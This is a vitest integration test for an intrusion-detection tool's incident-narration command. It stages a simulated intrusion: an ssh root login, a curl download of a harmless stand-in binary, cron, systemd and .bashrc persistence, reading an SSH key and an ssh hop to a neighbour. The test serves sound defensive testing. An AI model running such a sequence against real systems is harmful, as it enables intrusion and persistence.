/**
 * A story told for real: somebody logs on by a real ssh from a network namespace, fetches a stand-in over HTTP, plants a job, a unit and a
 * line, reads a key and goes on to a neighbour; `moat incident show` says so in words that need no explanation. The job's day never comes.
 */
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacks } from '../need.ts';
import { type Entrance, entranceNeeds, openEntrance } from './entrance.ts';
import { lacksKernel, startWatch, type Watch } from './kernel.ts';
import { moatBin } from './moat.ts';

const place = mkdtempSync(join(tmpdir(), '.moat-tale-'));
const home = mkdtempSync('/srv/moat-tale-');
const tool = join(place, 'kworkerd'), unit = join(home, '.config/systemd/user/kworker.service'), profile = join(home, '.bashrc'), job = `/etc/cron.d/moat-tale-${process.pid}`;
/** The thirty-first of February. */
const never = '0 0 31 2 *';

interface Shown { level: string; story: { entry?: { kind: string; address?: string; user?: string }; steps: { deed: string; text: { zh: string; en: string }; attack: string[]; matrix: string[] }[]; nodes: { kind: string; label: string; lives?: boolean }[]; gaps: { kind: string }[]; reached: { planted: string[]; neighbours: string[]; secrets: string[] }; left_out: { nodes: number } } }

describe.skipIf(lacks({ ...entranceNeeds, files: [...entranceNeeds.files, '/usr/bin/curl', '/usr/bin/python3'] }) || await lacksKernel())('moat incident show', () => {
  let watch: Watch, entrance: Entrance, server: ChildProcess, id = '';
  const run = (...args: string[]): { status: number | null; out: string; err: string } => {
    const { status, stdout, stderr } = spawnSync(process.execPath, [moatBin, '--data', join(watch.folder, 'data'), ...args], { encoding: 'utf8', maxBuffer: 1 << 26, env: { ...process.env, FORCE_COLOR: '' } });
    return { status, out: stdout, err: stderr };
  };
  const shown = (): Shown => JSON.parse(run('incident', 'show', id, '--json').out) as Shown;
  const living = (): number[] => spawnSync('pgrep', ['-f', `^${tool} `]).stdout.toString().trim().split('\n').filter(Boolean).map(Number);

  beforeAll(async () => {
    mkdirSync(join(home, '.config/systemd/user'), { recursive: true });
    mkdirSync(join(home, '.ssh'));
    writeFileSync(profile, 'alias ll="ls -l"\n');
    writeFileSync(join(home, '.ssh/id_ed25519'), 'no key\n');
    entrance = await openEntrance('203.0.113');
    await entrance.hosts(['203.0.113.20']);
    const web = mkdtempSync(join(place, 'web-'));
    copyFileSync('/bin/sleep', join(web, 'tool'));
    server = spawn('ip', ['netns', 'exec', entrance.namespace, 'python3', '-m', 'http.server', '8000', '--bind', entrance.address, '--directory', web], { stdio: 'ignore' });
    watch = await startWatch({ yaml: 'processes: { enabled: true }' });
    await sleep(500);
    const script = [
      'id; uname -a', `curl -s -o ${tool} http://${entrance.address}:8000/tool`, `chmod +x ${tool}`,
      `sh -c "echo '${never} root ${tool} 301' > ${job}"`, `sh -c "printf '[Service]\\nExecStart=${tool} 302\\n' > ${unit}"`, `sh -c "echo '${tool} 303 &' >> ${profile}"`,
      `cat ${home}/.ssh/id_ed25519 >/dev/null`, `ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3 -i ${entrance.key} root@203.0.113.20 true`,
      `nohup ${tool} 300 >/dev/null 2>&1 & sleep 1`,
    ].join('\n');
    expect((await entrance.run(script)).out).toContain('uid=0');
    const alert = await watch.waitFor(({ summary }) => summary.includes(`${tool} 300`), 'of the stand-in', 40_000);
    for (let i = 0; i < 100 && id === ''; i++) {
      const ids = run('incident', 'list', '--json').out.trim().split('\n').filter(Boolean).map((line) => (JSON.parse(line) as { id: string }).id);
      id = ids.find((one) => (JSON.parse(run('incident', 'show', one, '--json').out) as { alerts: string[] }).alerts.includes(alert.id)) ?? '';
      await sleep(200);
    }
    expect(id).not.toBe('');
  }, 90_000);
  afterAll(async () => {
    for (const pid of living()) process.kill(pid, 'SIGKILL');
    server?.kill();
    await watch?.end();
    await entrance?.close();
    for (const path of [place, home, job]) rmSync(path, { recursive: true, force: true });
  });

  it('names the first entry, all that was planted, read and reached', async () => {
    const { story } = shown();
    if (process.env['SHOW_STORY']) { for (const lang of ['zh', 'en']) console.log(run('--lang', lang, 'incident', 'show', id).out); console.log(run('--lang', 'en', 'incident', 'plan', id).out); }
    expect(story.entry).toMatchObject({ kind: 'login', address: entrance.address, user: 'root' });
    const planted = story.reached.planted.join('\n');
    for (const path of [job, unit, profile]) expect(planted).toContain(path);
    expect(story.reached.neighbours.join() + JSON.stringify(story.nodes)).toContain('203.0.113.20');
    expect(story.reached.secrets).toContain(`${home}/.ssh/id_ed25519`);
    const texts = story.steps.map(({ text }) => text.en);
    expect(texts.some((text) => text.includes('downloaded') && text.includes(tool))).toBe(true);
    const deeds = story.steps.filter(({ deed }) => deed !== 'asked' && deed !== 'wrote');
    expect(deeds.filter(({ attack, matrix }) => attack.length === 0 || matrix.length === 0)).toEqual([]);
    expect(story.left_out.nodes).toBe(0);
  });

  it('is told in both languages, no wider than the terminal', () => {
    const zh = run('--lang', 'zh', 'incident', 'show', id).out, en = run('--lang', 'en', 'incident', 'show', id).out;
    for (const word of ['怎么进来的', '波及范围', '经过', '进程树', `从 ${entrance.address} 远程登录`, '植入了计划任务']) expect(zh).toContain(word);
    for (const word of ['How they came in', 'How far it reaches', 'planted cron', 'T1053.003']) expect(en).toContain(word);
    expect(run('--lang', 'en', 'incident', 'show', id, '--tree').out).not.toContain('What happened, in order');
  });

  it('is still told when Moat does not run, and says since when nobody looks', async () => {
    await watch.stop();
    const page = run('--lang', 'en', 'incident', 'show', id);
    expect(page.out).toContain('the story as it was kept');
    expect(page.out).toContain(`log-on of root from ${entrance.address}`);
    expect(page.out).toContain(job);
  });
});
